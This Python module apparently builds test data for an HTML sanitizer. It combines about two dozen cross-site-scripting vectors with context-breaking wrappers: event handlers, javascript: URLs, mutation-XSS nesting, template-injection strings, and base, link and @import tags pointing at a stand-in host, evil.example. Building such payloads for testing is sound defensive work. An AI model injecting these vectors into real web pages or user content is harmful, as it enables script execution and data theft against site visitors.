"""Texts that try to become code: each would set `window.hacked`, open a dialog, or call another server."""

from __future__ import annotations

from itertools import product

_DEED = "window.hacked=1;alert(1)"
_TAGS = (
    '<img src=x onerror="{0}">',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    '<iframe srcdoc="<script>{0}</script>"></iframe>',
    '<iframe src="javascript:{0}"></iframe>',
    '<a href="javascript:{0}" autofocus onfocus="{0}">x</a>',
    '<body onload="{0}">',
    '<input autofocus onfocus="{0}">',
    '<details open ontoggle="{0}">x</details>',
    '<video><source onerror="{0}"></video>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{0}"></style></mglyph></table></mtext></math>',
    '<form action="javascript:{0}"><button>x</button></form>',
    '<object data="javascript:{0}"></object>',
    '<embed src="javascript:{0}">',
    '<meta http-equiv="refresh" content="0;url=javascript:{0}">',
    '<base href="https://evil.example/">{0}',
    '<link rel="stylesheet" href="https://evil.example/x.css">{0}',
    '<style>@import "https://evil.example/x.css";</style>{0}',
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "<!--><img src=x onerror={0}>-->",
    "<template><script>{0}</script></template>",
    "</mark></blockquote></template><img src=x onerror={0}>",
    "{{{{ {0} }}}}",
    "${{{0}}}",
)
_WRAPPINGS = ("{}", '">{}', "'>{}", "</p>{}", "&lt;/p&gt;{}")

PAYLOADS = [wrap.format(tag.format(_DEED)) for tag, wrap in product(_TAGS, _WRAPPINGS)]
